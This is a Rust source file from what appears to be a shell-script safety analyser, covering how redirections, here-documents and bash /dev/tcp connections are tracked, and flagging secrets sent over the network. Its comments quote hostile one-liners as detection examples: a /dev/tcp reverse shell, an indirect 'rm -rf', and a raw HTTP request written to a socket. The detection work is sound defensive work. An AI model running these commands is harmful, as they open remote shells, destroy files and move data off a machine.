//! Redirections: what a command then reads, and where what it writes goes.

use super::expand::Argument;
use super::freight::Freight;
use super::place::{Place, place_of};
use super::rewrite::Contents;
use super::run::Called;
use super::scope::Scope;
use super::stream::{Flow, Stream};
use super::value::Value;
use super::walk::Walk;
use super::{Action, Reach, Reversal, Verb};
use crate::decide::syntax::{Redirect, RedirectKind, Span, Word};

/// What a redirection costs, without what it opens.
const REDIRECTION: usize = 16;

/// What redirections make of a command's streams.
#[derive(Default)]
pub(super) struct Redirected {
    pub(super) stdin: Option<Stream>,
    /// The file that standard output goes to, if its name is known, and whether it is appended.
    output: Option<(Option<String>, bool)>,
    /// The files that it makes anew.
    made: Vec<String>,
    /// A file that standard output writes anew, of which it is judged once it is known with what; and whether the script had
    /// named it before.
    rewritten: Option<(String, Span, bool)>,
    span: Span,
}

impl Redirected {
    /// Does standard output go into a file?
    pub(super) fn hides_output(&self) -> bool {
        let shown = |path: &str| matches!(path, "/dev/tty" | "/dev/stdout" | "/dev/stderr" | "/dev/console");
        self.output.as_ref().is_some_and(|(path, _)| !path.as_deref().is_some_and(shown))
    }
}

impl Walk<'_> {
    pub(super) fn redirects(&mut self, redirects: &[Redirect], scope: &mut Scope) -> Redirected {
        let mut result = Redirected::default();
        let span = redirects.first().map_or_else(Span::default, |first| first.span);
        if !self.burn_for(redirects.len() * REDIRECTION, span) {
            return result;
        }
        for redirect in redirects {
            match &redirect.kind {
                RedirectKind::Read(word) => {
                    let value = self.expand_whole(word, scope);
                    result.stdin = Some(self.read_from(&value, redirect.span, scope));
                }
                RedirectKind::Write(word) | RedirectKind::WriteBoth(word) => {
                    let value = self.expand_whole(word, scope);
                    self.note_blind(&value, scope);
                    let path = self.absolute(&value, scope);
                    let descriptor = redirect.descriptor.unwrap_or(1);
                    if let Some(path) = &path {
                        let later = (path.clone(), redirect.span, scope.is_named(path));
                        // Of several only the last one gets anything.
                        let now = if descriptor == 1 { result.rewritten.replace(later) } else { Some(later) };
                        if let Some((path, span, _)) = now {
                            let contents = if descriptor == 1 { Contents::Text(0) } else { Contents::Printed };
                            self.overwrite_path(&path, contents, span, scope);
                        }
                        result.made.push(path.clone());
                    }
                    self.note_write(path.clone());
                    match descriptor {
                        1 => result.output = Some((path, false)),
                        2 => {}
                        // `exec 3> x; echo 'rm -rf src' >&3; sh x`: what goes there is not followed.
                        _ => scope.written.extend(path.map(|path| (path, Value::unknown()))),
                    }
                    self.note_connection(&value);
                }
                RedirectKind::Append(word) | RedirectKind::AppendBoth(word) | RedirectKind::ReadWrite(word) => {
                    let value = self.expand_whole(word, scope);
                    self.note_blind(&value, scope);
                    let path = self.absolute(&value, scope);
                    if let Some(path) = &path {
                        self.append_path(path, redirect.span, scope);
                    }
                    self.note_write(path.clone());
                    scope.note_made_if_missing(path.clone());
                    result.output = Some((path, true));
                    self.note_connection(&value);
                }
                RedirectKind::Duplicate(word) => {
                    let value = self.expand_whole(word, scope);
                    if redirect.descriptor == Some(0) {
                        result.stdin = Some(self.duplicated(&value));
                    }
                }
                RedirectKind::HereDocument(word) => result.stdin = Some(self.given_text(word, "", scope)),
                RedirectKind::HereString(word) => result.stdin = Some(self.given_text(word, "\n", scope)),
            }
            result.span = redirect.span;
        }
        result
    }

    /// A file whose name is not known may be any: settings by which a later command runs something.
    fn note_blind(&mut self, value: &Value, scope: &Scope) {
        self.reading.writes_blindly |= self.absolute(value, scope).is_none();
    }

    /// The text of a here-document or here-string, with what its substitutions carry.
    fn given_text(&mut self, word: &Word, end: &str, scope: &mut Scope) -> Stream {
        let outer = std::mem::take(&mut self.flow);
        let mut text = self.expand_whole(word, scope);
        text.push_known(end);
        let flow = std::mem::replace(&mut self.flow, outer);
        Stream { flow, ..Stream::of(text) }
    }

    /// `0<&3`: what is read then is not known. `bash -i >& /dev/tcp/HOST/PORT 0>&1` reads commands from the network.
    fn duplicated(&self, descriptor: &Value) -> Stream {
        match descriptor.known() {
            Some("-") => Stream::empty(),
            Some("0") => Stream::inherited(),
            Some(_) | None if self.connected => Stream::unseen(Flow::of(Freight::Network)),
            Some(_) | None => Stream::default(),
        }
    }

    /// `/dev/tcp/HOST/PORT` is a connection, not a file (bash(1), REDIRECTION).
    fn note_connection(&mut self, target: &Value) {
        self.connected |= is_connection(target.known_start());
    }

    /// Notes what a file now holds; what went to a file does not go down the pipe.
    pub(super) fn keep(&mut self, mut redirected: Redirected, output: Stream, scope: &mut Scope) -> Stream {
        if let Some((path, span, named)) = redirected.rewritten.take() {
            // `sort x > x`: the file is empty before anyone reads it.
            let emptied = !named && scope.is_named(&path) || output.files.contains(&path);
            let contents = if emptied { Contents::Other } else { Contents::of(&output) };
            self.overwrite_path(&path, contents, span, scope);
        }
        scope.note_made(redirected.made);
        let Some((path, append)) = redirected.output else {
            return output;
        };
        if let Some(path) = path {
            self.check_kept(&path, &output.flow, redirected.span);
            self.check_wire(&path, &output, scope);
            let text = output.text.clone().unwrap_or_else(Value::unknown);
            scope.carry(&path, &output.flow);
            match scope.written.get_mut(&path) {
                Some(before) if append => before.append(&text),
                Some(before) => *before = text,
                None if append => {
                    scope.written.insert(path, Value::unknown());
                }
                None => {
                    scope.written.insert(path, text);
                }
            }
        }
        Stream { flow: output.flow, ..Stream::empty() }
    }

    /// What is written to a connection leaves the machine; an environment with secrets in a file lies there for all.
    fn check_kept(&mut self, path: &str, flow: &Flow, span: Span) {
        let leaves = [Freight::Secret, Freight::Private, Freight::Variables, Freight::Variable];
        let (verb, rule, why) = if is_connection(path) && leaves.iter().any(|freight| flow.has(*freight)) {
            (Verb::Send, "secrets.connection.send", "Sends a secret or a private file over the network.")
        } else if flow.has(Freight::Variables) && self.environment_tells() && !self.is_sink(path) {
            (Verb::ReadSecret, "secrets.environment.store", "Writes the environment, with its secrets, into a file.")
        } else {
            return;
        };
        self.push(Action {
            verb,
            resource: "secret".to_owned(),
            names: vec![path.to_owned()],
            reach: Reach::Account,
            reversal: Reversal::Never,
            rule: rule.to_owned(),
            why: why.to_owned(),
            instead: None,
            span: self.anchor.unwrap_or(span),
            via: self.via.clone(),
        });
    }

    /// `printf 'DELETE /x HTTP/1.1…' > /dev/tcp/HOST/PORT` is a request.
    fn check_wire(&mut self, path: &str, output: &Stream, scope: &mut Scope) {
        let Some(place) = path.strip_prefix("/dev/tcp/").filter(|_| output.text.is_some()) else { return };
        let span = Span::default();
        let words: Vec<Argument> = place.split('/').map(|word| Argument::literal(word, span)).collect();
        let called = Called { program: "nc", path: "nc", words: &words, all: &words, stdin: output };
        self.check_requests(called, scope, output);
    }

    fn is_sink(&self, path: &str) -> bool {
        place_of(path, self.setting) == Place::Sink
    }

    /// Does the environment hold a variable whose name tells a secret?
    fn environment_tells(&self) -> bool {
        self.setting.environment.keys().any(|name| super::keyring::tells_secret(name))
    }
}

/// Is this a name under which bash opens a connection?
pub(super) fn is_connection(path: &str) -> bool {
    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
}
